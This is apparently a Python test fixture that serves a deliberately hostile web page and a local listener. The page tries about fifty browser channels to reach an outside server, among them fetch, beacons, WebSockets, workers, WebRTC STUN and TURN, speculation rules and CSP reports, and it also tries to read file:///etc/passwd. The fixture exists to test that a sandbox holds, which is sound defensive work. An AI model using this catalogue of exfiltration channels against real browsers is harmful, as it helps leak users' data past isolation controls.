"""A page that tries every way out it can think of, and a place outside that counts what reaches it."""

from __future__ import annotations

import asyncio
from collections.abc import AsyncIterator
from contextlib import asynccontextmanager
from dataclasses import dataclass, field

from aiohttp import web

from .conftest import LocalSite, html

WAYS = {
    "fetch": "fetch(there, {mode: 'no-cors'})",
    "fetch-keepalive": "fetch(there, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "fetch-redirected": "fetch(here, {mode: 'no-cors'})",
    "xhr": "xhr(there)",
    "image": "element('img', {src: there})",
    "image-redirected": "element('img', {src: here})",
    "script": "element('script', {src: there})",
    "script-redirected": "element('script', {src: here})",
    "module": "import(there)",
    "stylesheet": "element('link', {rel: 'stylesheet', href: there})",
    "background": "element('div', {style: `height: 1px; background: url(${there})`})",
    "font": "new FontFace('outside', `url(${there})`).load()",
    "video": "element('video', {src: there, preload: 'auto'})",
    "object": "element('object', {data: there})",
    "embed": "element('embed', {src: there})",
    "iframe": "element('iframe', {src: there})",
    "iframe-redirected": "element('iframe', {src: here})",
    "iframe-srcdoc": "element('iframe', {srcdoc: `<img src=${there}>`})",
    "iframe-data": "element('iframe', {src: `data:text/html,<img src=${there}>`})",
    "iframe-refresh": "element('iframe', {srcdoc: `<meta http-equiv=refresh content='0;url=${there}'>`})",
    "form": "submit(there)",
    "form-redirected": "submit(here)",
    "websocket": "socket(there)",
    "websocket-worker": "worker(`new WebSocket('${there}'.replace('http', 'ws')).onclose = () => postMessage(1)`)",
    "worker-fetch": "worker(`fetch('${there}', {mode: 'no-cors'}).finally(() => postMessage(1))`)",
    "worker-redirected": "worker(`fetch('${here}', {mode: 'no-cors'}).finally(() => postMessage(1))`)",
    "worker-import": "worker(`try { importScripts('${there}') } finally { postMessage(1) }`)",
    "shared-worker": "shared(`fetch('${there}', {mode: 'no-cors'})`)",
    "service-worker": "navigator.serviceWorker.register('/service.js?to=' + encodeURIComponent(there))",
    "eventsource": "new Promise(done => { new EventSource(there).onerror = done })",
    "beacon": "navigator.sendBeacon(there, 'x')",
    "ping": "click({href: '#x', ping: there})",
    "prefetch": "element('link', {rel: 'prefetch', href: there})",
    "preload": "element('link', {rel: 'preload', as: 'image', href: there})",
    "modulepreload": "element('link', {rel: 'modulepreload', href: there})",
    "preconnect": "element('link', {rel: 'preconnect', href: there})",
    "speculation": "element('script', {type: 'speculationrules', text: rules('prefetch', there)})",
    "prerender": "element('script', {type: 'speculationrules', text: rules('prerender', there)})",
    "icon": "element('link', {rel: 'icon', href: there})",
    "manifest": "element('link', {rel: 'manifest', href: there, crossOrigin: 'anonymous'})",
    "popup": "window.open(there)",
    "popup-redirected": "window.open(here)",
    "popup-script": "window.open('about:blank').document.write(`<img src=${there}>`)",
    "download": "inside(`<a href=${there} download=x>`)",
    "download-redirected": "inside(`<a href=${here} download=x>`)",
    "download-target": "inside(`<a href=${there} target=_blank>`)",
    "csp-report": "element('iframe', {src: '/reporting?to=' + encodeURIComponent(there)})",
    "preload-header": "element('iframe', {src: '/linking?to=' + encodeURIComponent(there)})",
    "webtransport": "new WebTransport(there.replace('http:', 'https:')).ready",
    "stun": "rtc([{urls: `stun:${udp}`}])",
    "turn": "rtc([{urls: `turn:${udp}?transport=udp`, username: 'u', credential: 'c'}])",
    "turn-tcp": "rtc([{urls: `turn:${tcp}?transport=tcp`, username: 'u', credential: 'c'}])",
    "dialog": "(alert('x'), confirm('x'), prompt('x'))",
    "file": "fetch('file:///etc/passwd').then(answer => answer.text()).then(text => { window.leaked = text })",
    "file-frame": "element('iframe', {src: 'file:///etc/passwd'})",
    "file-popup": "window.open('file:///etc/passwd')",
}
"""Each way by its name, which is also the path that is asked for outside (`there`; `here` is redirected to it)."""

PAGE = """<!doctype html><title>hostile</title><body><script>
const within = (promise) => Promise.race([promise, new Promise(done => setTimeout(done, 1500))]);
const element = (name, attributes) => new Promise(done => {
  const made = document.createElement(name);
  const {text, ...others} = attributes;
  for (const [key, value] of Object.entries(others)) made.setAttribute(key, value);
  if (text) made.textContent = text;
  made.onload = made.onerror = done;
  document.body.append(made);
});
const click = (attributes) => { const a = document.createElement("a"); Object.assign(a, attributes);
  document.body.append(a); a.click(); };
const inside = (link) => element("iframe", {srcdoc: `${link}x</a><script>document.links[0].click()<\\/script>`});
const xhr = (to) => new Promise(done => {
  const request = new XMLHttpRequest(); request.onloadend = done; request.open("GET", to); request.send();
});
const submit = (to) => new Promise(done => {
  const name = "f" + Math.random(), frame = document.createElement("iframe"), form = document.createElement("form");
  frame.name = name; Object.assign(form, {action: to, target: name, method: "post"});
  document.body.append(frame, form); form.submit(); frame.onload = done;
});
const socket = (to) => new Promise(done => { new WebSocket(to.replace("http", "ws")).onclose = done });
const blob = (code) => URL.createObjectURL(new Blob([code], {type: "text/javascript"}));
const worker = (code) => new Promise(done => {
  const made = new Worker(blob(code)); made.onmessage = made.onerror = done;
});
const shared = (code) => new Promise(done => { new SharedWorker(blob(code)).onerror = done });
const rules = (kind, to) => JSON.stringify({[kind]: [{source: "list", urls: [to], eagerness: "immediate"}]});
const rtc = (iceServers) => new Promise(done => {
  const peer = new RTCPeerConnection({iceServers}); peer.createDataChannel("x");
  peer.onicecandidate = ({candidate}) => {
    if (!candidate) done(); else window.told = (window.told || "") + candidate.candidate;
  };
  peer.createOffer().then(offer => peer.setLocalDescription(offer));
});
const tcp = "OUTSIDE", udp = "UDP";
const ways = {WAYS};
Promise.all(Object.entries(ways).map(async ([name, go]) => {
  try { await within(go(`http://OUTSIDE/${name}`, `${location.origin}/away/${name}`)); } catch (error) { /* refused */ }
})).then(() => {
  const done = document.createElement("meta");
  Object.assign(done, {name: "csrf", content: "done" + (window.leaked || "") + (window.told || "")});
  document.head.append(done);
});
</script>"""


@dataclass
class Outside:
    """A place that the site's page may not reach. `seen`: paths that were asked for; `other`: all else that came."""

    port: int = 0
    udp_port: int = 0
    seen: set[str] = field(default_factory=set)
    other: list[bytes] = field(default_factory=list)
    connections: int = 0

    async def answer(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.connections += 1
        try:
            while line := await reader.readline():
                method, _, rest = line.partition(b" ")
                if not rest.startswith(b"/") and method != b"OPTIONS":
                    self.other.append(line)
                    break
                self.seen.add(rest.split(b" ")[0].decode().lstrip("/"))
                while (await reader.readline()).strip():
                    pass
                writer.write(b"HTTP/1.1 200 OK\r\nAccess-Control-Allow-Origin: *\r\nContent-Length: 0\r\n\r\n")
        except ConnectionError:
            return
        finally:
            writer.close()


class Datagrams(asyncio.DatagramProtocol):
    """Counts what comes by UDP."""

    def __init__(self, outside: Outside) -> None:
        self.outside = outside

    def datagram_received(self, data: bytes, addr: object) -> None:
        self.outside.other.append(b"udp " + data[:8])


@asynccontextmanager
async def outside_place() -> AsyncIterator[Outside]:
    outside = Outside()
    server = await asyncio.start_server(outside.answer, "127.0.0.1", 0)
    outside.port = server.sockets[0].getsockname()[1]
    transport, _ = await asyncio.get_running_loop().create_datagram_endpoint(
        lambda: Datagrams(outside), local_addr=("127.0.0.1", 0)
    )
    outside.udp_port = transport.get_extra_info("sockname")[1]
    try:
        yield outside
    finally:
        transport.close()
        server.close()


def make_hostile(site: LocalSite, outside: Outside, host: str = "127.0.0.1") -> None:
    """Give *site* the hostile page, and what it needs of its own host."""
    place = f"{host}:{outside.port}"
    ways = ",".join(f'"{name}": (there, here) => {code}' for name, code in WAYS.items())
    page = PAGE.replace("{WAYS}", "{" + ways + "}").replace("OUTSIDE", place)
    site.page(page.replace("UDP", f"{host}:{outside.udp_port}"))

    async def away(request: web.Request) -> web.StreamResponse:
        raise web.HTTPTemporaryRedirect(f"http://{place}{request.path.removeprefix('/away')}")

    for name in WAYS:
        site.pages[f"/away/{name}"] = away

    async def reporting(request: web.Request) -> web.StreamResponse:
        policy = f"img-src 'none'; report-uri {request.query['to']}"
        return html("<img src=/x.png>", headers={"Content-Security-Policy": policy})

    async def linking(request: web.Request) -> web.StreamResponse:
        return html("<p>linked", headers={"Link": f"<{request.query['to']}>; rel=preload; as=image"})

    async def service(request: web.Request) -> web.StreamResponse:
        code = f"self.addEventListener('install', event => event.waitUntil(fetch('{request.query['to']}')))"
        return web.Response(text=code, content_type="text/javascript")

    site.pages |= {"/reporting": reporting, "/linking": linking, "/service.js": service}
